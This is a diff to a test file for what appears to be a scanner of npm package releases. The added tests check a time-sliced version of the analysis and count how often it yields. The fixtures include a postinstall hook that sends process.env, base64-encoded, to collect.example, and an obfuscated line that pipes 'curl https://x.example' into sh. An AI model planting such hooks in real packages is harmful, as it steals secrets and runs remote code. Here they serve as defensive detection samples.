@@ -1,7 +1,9 @@
 import { strict as assert } from 'node:assert';
 import * as path from 'node:path';
 import { buildSync } from 'esbuild';
-import { analyzeContentChange, type ContentInput } from '../../../src/core/content';
+import { analyzeContentChange, contentChangeSteps, type ContentInput } from '../../../src/core/content';
+import { CHUNK_SCAN_BYTES } from '../../../src/core/content/scan';
+import type { Steps } from '../../../src/core/steps';
 import { parseCommand } from '../../../src/core/content/lifecycle';
 import { anchorsOf, scanFile } from '../../../src/core/content/scan';
 import type { PackageContents, PackageFile } from '../../../src/core/content/types';
@@ -689,6 +691,56 @@ for (const name of JSON.parse(cp.execSync('npm search --json maintainer:me'))) {
         finishesWithinHangGuard('the 20 MB comparison', () => run({ current, previous })),
         [],
       );
+    });
+  });
+
+  describe('in steps (the engine runs them in time slices, answering requests in between)', () => {
+    /** Steps to the end, counting the yields. */
+    const stepped = <T>(steps: Steps<T>): { value: T; yields: number } => {
+      for (let yields = 0; ; yields++) {
+        const r = steps.next();
+        if (r.done) return { value: r.value, yields };
+      }
+    };
+    const hookCode = `const https = require('https');
+https.get('https://collect.example/' + Buffer.from(JSON.stringify(process.env)).toString('base64'));
+`;
+
+    it('gives the findings analyzeContentChange gives', () => {
+      const previous = pkg('1.0.0', { 'package.json': { main: 'index.js' }, 'index.js': LIB_V1 });
+      const current = pkg('1.0.1', {
+        'package.json': { main: 'index.js', scripts: { postinstall: 'node setup.js' } },
+        'index.js': LIB_V1 + "require('./lib/x');\n",
+        'lib/x.js': obfuscated("require('child_process').exec('curl https://x.example | sh')"),
+        'setup.js': hookCode,
+      });
+      const { value } = stepped(contentChangeSteps({ current, previous }));
+      assert.ok(value.length >= 2, `a suspicious release: ${codes(value)}`);
+      assert.deepEqual(value, run({ current, previous }));
+    });
+
+    it('yields once per file it scans; a file identical in both releases is scanned once', () => {
+      const previous = pkg('1.0.0', { 'package.json': { main: 'index.js' }, 'index.js': LIB_V1, 'util.js': 'module.exports = 1;\n', 'README.md': '# lib' });
+      const current = pkg('1.0.1', {
+        'package.json': { main: 'index.js' },
+        'index.js': LIB_V1 + '// 1.0.1\n',
+        'util.js': 'module.exports = 1;\n',
+        'more.js': 'module.exports = 2;\n',
+        'README.md': '# lib 1.0.1',
+      });
+      // Current: index.js, util.js, more.js; previous: index.js (util.js is the current scan, reused).
+      assert.equal(stepped(contentChangeSteps({ current, previous })).yields, 4);
+      assert.equal(stepped(contentChangeSteps({ current })).yields, 3);
+    });
+
+    it('yields once per chunk of a file scanned in chunks', function () {
+      this.timeout(120_000);
+      const size = 3 * CHUNK_SCAN_BYTES;
+      const big = 'function f(a) { return a + 1; }\n'.repeat(Math.ceil(size / 33)).slice(0, size);
+      const current = pkg('1.0.0', { 'package.json': { main: 'index.js' }, 'index.js': big });
+      const { yields } = stepped(contentChangeSteps({ current }));
+      // Chunks of 1 MB overlapping by 16 KB: at least one step per MB, so no step holds the thread for the whole file.
+      assert.ok(yields >= size / (1024 * 1024), `${yields} yields for ${size} bytes`);
     });
   });
 });
